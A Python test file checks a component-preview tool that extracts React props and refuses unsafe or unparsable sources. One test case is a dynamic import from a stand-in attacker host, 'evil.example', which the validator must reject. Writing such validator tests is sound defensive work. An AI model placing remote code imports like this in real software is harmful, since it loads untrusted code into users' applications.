"""A component's props read from its source (lfwb/preview/props.py), and sources refused before
a preview or an export (lfwb/preview/source.py)."""

from __future__ import annotations

import random

import pytest

from lfwb.errors import BadInput, PreviewRefused
from lfwb.preview.props import PropSpec, extract_props, validate_source


def props(source: str) -> list[tuple]:
    return [(p.name, p.kind, p.default) for p in extract_props(source)]


def test_an_interface_gives_each_prop_its_kind_and_destructuring_gives_defaults():
    source = """
import React from "react"

interface CardProps {
  /** the heading */
  title: string
  price?: number;
  featured?: boolean,
  onBuy?: () => void
}

export default function Card({ title = "Pro", price = 12.5, featured = false, onBuy }: CardProps) {
  return <div onClick={onBuy}>{title} {price}</div>
}
"""
    assert props(source) == [("title", "string", "Pro"), ("price", "number", 12.5), ("featured", "boolean", False)]


def test_a_union_of_string_literals_is_an_enum_with_its_options():
    source = """
type Props = { size?: "sm" | "md" | 'lg'; tone: | "light" | "dark" | undefined }
export default function Badge({ size = "md", tone }: Props) { return <span/> }
"""
    size, tone = extract_props(source)
    assert (size.kind, size.options, size.default) == ("enum", ["sm", "md", "lg"], "md")
    assert (tone.kind, tone.options, tone.default, tone.initial) == ("enum", ["light", "dark"], None, "light")


def test_a_colour_is_known_by_its_default_or_by_a_name_ending_in_color():
    source = """
export default function Swatch({ fill = "#ff0000", ring = "rgb(0, 0, 255)", textColor = "white", label = "x" }) {
  return <div style={{ background: fill }}>{label}</div>
}
"""
    assert [(p.name, p.kind) for p in extract_props(source)] == [
        ("fill", "color"),
        ("ring", "color"),
        ("textColor", "color"),
        ("label", "string"),
    ]


def test_an_arrow_component_exported_by_name_with_react_fc_reads_its_props_type():
    source = """
import React from "react";
type Props = Partial<{ count: number; label: string }> & { step?: 1 | 2 | 5 };
const Counter: React.FC<Props> = ({ count = 3, label = `Clicks: \\u00e9` }) => {
  const [n, setN] = React.useState(count);
  return <button onClick={() => setN(n + 1)}>{label} {n}</button>;
};
export default Counter;
"""
    assert props(source) == [("count", "number", 3), ("label", "string", "Clicks: é"), ("step", "number", None)]


def test_strings_comments_templates_and_regexes_with_braces_do_not_confuse_the_reader():
    source = """
// export default function Fake({ nope = 1 }) {}
const re = /[}{]+/g; const t = `a ${ { x: "}" }.x } b`;
/* { unbalanced */
export default ({ greeting = "Don't {panic}", n = -2 }: { greeting?: string; n?: number }) => (
  <p title='}'>It's {greeting} {n}</p>
)
"""
    assert props(source) == [("greeting", "string", "Don't {panic}"), ("n", "number", -2)]


def test_an_add_property_controls_block_is_the_list_of_controls_and_takes_precedence():
    source = """
import { addPropertyControls, ControlType } from "framer"
export default function Hero({ title = "From code", size = 10, hidden = true }: { title: string; size: number; hidden: boolean }) {
  return <h1 style={{ fontSize: size }}>{title}</h1>
}
addPropertyControls(Hero, {
  title: { type: ControlType.String, title: "Headline", defaultValue: "From controls" },
  size: { type: ControlType.Number, min: 8, max: 96, step: 2 },
  align: { type: ControlType.Enum, options: ["left", "center"], defaultValue: "center" },
  tint: { type: ControlType.Color, defaultValue: "#333" },
  image: { type: ControlType.Image },
})
"""
    title, size, align, tint = extract_props(source)
    assert (title.title, title.default) == ("Headline", "From controls")
    assert (size.kind, size.default, size.min, size.max, size.step, size.title) == ("number", 10, 8, 96, 2, "Size")
    assert (align.kind, align.options, align.default) == ("enum", ["left", "center"], "center")
    assert (tint.kind, tint.default) == ("color", "#333")


def test_default_props_and_memo_are_followed():
    source = """
import { memo } from "react"
function Tag(props: TagProps) { return <em>{props.text}</em> }
interface TagProps extends Base { text?: string }
interface Base { bold: boolean }
Tag.defaultProps = { text: "new", bold: true }
export default memo(Tag)
"""
    assert props(source) == [("bold", "boolean", True), ("text", "string", "new")]


def test_a_default_that_is_not_a_literal_or_does_not_fit_the_type_is_no_default():
    source = """
export default function List({ items = [], count = "3", label = LABEL }: { items: string[]; count: number; label: string }) {
  return <ul/>
}
"""
    assert props(source) == [("count", "number", None), ("label", "string", None)]


def test_titles_are_words_of_the_prop_name():
    (spec,) = extract_props('export default function A({ backgroundColor = "#fff" }) { return <div/> }')
    assert spec == PropSpec("backgroundColor", "color", "#fff", title="Background Color")


def test_a_source_without_a_readable_component_has_no_props():
    assert extract_props("export default 42") == []
    assert extract_props("const x = 1") == []
    assert extract_props("export default function Broken({ a = ") == []


# -- refused sources ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "source, says",
    [
        ('import styles from "./styles.css"\nexport default () => <b/>', "imports './styles.css' (line 1)"),
        ('import _ from "lodash"\nexport default () => <b/>', "imports 'lodash'"),
        ('export default () => { const fs = require("fs"); return <b/> }', "imports 'fs'"),
        (
            'export default function A() { import("https://evil.example/x.js"); return null }',
            "imports 'https://evil.example/x.js'",
        ),
        ('export { x } from "../x"\nexport default () => <b/>', "imports '../x'"),
        ("function A() { return <b/> }", "has no default export"),
    ],
)
def test_a_disallowed_import_or_a_missing_default_export_is_refused_with_one_line(source, says):
    with pytest.raises(PreviewRefused) as e:
        validate_source(source)
    assert says in str(e.value) and "\n" not in str(e.value)
    assert isinstance(e.value, BadInput)


# The kinds of broken component smollm2 writes (issue 19): each passed the validator before it
# read components with a parser. The first four fail the frame's transpile; the last, which
# sucrase lets through, fails TypeScript, Babel and esbuild (what a Framer export meets).
BROKEN = {
    "a broken destructuring": (
        """import React from "react";

export default function Counter({ label = "Count", start = 0 }) {
  const [count, setCount = React.useState(start);
  return <button onClick={() => setCount(count + 1)}>{label}: {count}</button>;
}
""",
        "(line 4, column 3): unexpected `const [count, setCount",
    ),
    "an unclosed JSX tag": (
        """export default function TodoList({ items = ["Milk", "Eggs"] }) {
  return (
    <div>
      <h2>Todo</h2>
      <ul>
        {items.map((item) => <li key={item}>{item}</li>)}
    </div>
  );
}
""",
        "(line 7, column 5): `<ul>` from line 5 is closed by `</div>`",
    ),
    "a missing brace": (
        """import React, { useState } from "react";

export default function LoginForm({ title = "Sign in" }) {
  const [email, setEmail] = useState("");
  function submit(event) {
    event.preventDefault();
  return (
    <form onSubmit={submit}>
      <h2>{title}</h2>
      <input value={email} onChange={(e) => setEmail(e.target.value)} />
    </form>
  );
}
""",
        "(line 13, column 2): `}` is missing",
    ),
    "a style that loops until the tokens run out": (
        """export default function PricingCard({ title = "Pro" }) {
  return (
    <div style={{
      padding: 16,
"""
        + "      margin: 16,\n" * 40
        + "      margin: 1",
        "(line 45, column 16): it ends before `{` from line 3 is closed",
    ),
    "a bare > in JSX text": (
        "export default () => <p>Next > Done</p>\n",
        "(line 1, column 30): `>` cannot stand in JSX text: write {'>'} or &gt;",
    ),
}


@pytest.mark.parametrize("source, says", BROKEN.values(), ids=BROKEN.keys())
def test_a_component_that_does_not_parse_is_refused_with_its_line(source, says):
    with pytest.raises(PreviewRefused) as e:
        validate_source(source, "App.jsx")
    assert str(e.value).startswith("App.jsx does not parse ") and says in str(e.value)
    assert "\n" not in str(e.value)


def test_a_long_run_of_what_is_not_code_is_refused_once_reading_it_runs_over_its_budget(monkeypatch):
    # tree-sitter's error recovery would take minutes over this; the budget stops it (2 s). A spent
    # budget here, so the outcome does not hang on how fast this machine reads noise today.
    monkeypatch.setattr("lfwb.preview.source.PARSE_BUDGET_S", 0.0)
    noise = "".join(random.Random(1).choices("(){}[]<>/\"'`x =;:,.\n", k=64_000))
    with pytest.raises(PreviewRefused, match=r"^Noise.jsx could not be read in 0 s — it is mostly not JavaScript"):
        validate_source(noise, "Noise.jsx")
    assert extract_props(noise) == []
    assert props("export default ({ n = 1 }) => <b>{n}</b>") == [("n", "number", 1)]  # the parser starts afresh


def test_components_are_checked_on_several_threads_at_once():
    # Pipeline steps check their components on threads of their own (a parser per thread).
    from concurrent.futures import ThreadPoolExecutor

    def check(source: str) -> str:
        try:
            validate_source(source)
            return "ok"
        except PreviewRefused as e:
            return str(e).split(":")[0]

    sources = [source for source, _ in BROKEN.values()] + ["export default () => <b>fine</b>"] * 4
    with ThreadPoolExecutor(8) as pool:
        seen = list(pool.map(check, sources * 5))
    assert seen == [check(s) for s in sources] * 5 and seen.count("ok") == 20


def test_jsx_text_with_quotes_braces_entities_and_generics_parses():
    validate_source("""type Row<T> = { value: T };
const pick = <T,>(rows: Row<T>[]): T | undefined => rows[0]?.value;
export default function Note({ text = "Don't {panic}" }: { text?: string }) {
  const re = /[<{]+/g;
  return <p title='"quoted"'>It's &amp; {text.replace(re, "")} {pick([{ value: 1 }]) satisfies number | undefined}</p>;
}
""")


def test_the_allowed_modules_and_a_default_export_by_name_pass():
    validate_source(
        'import React, { useState } from "react"\nimport { motion } from "framer-motion"\n'
        'import { createRoot } from "react-dom/client"\nimport { addPropertyControls } from "framer"\n'
        "const A = () => <motion.div/>\nexport { A as default }\n"
    )


def test_a_one_megabyte_source_is_refused_before_it_is_read():
    source = "export default () => <p>" + "x" * 1_000_000 + "</p>"
    with pytest.raises(PreviewRefused, match="1000 kB — a component may be at most 200 kB"):
        validate_source(source, "Big.jsx")
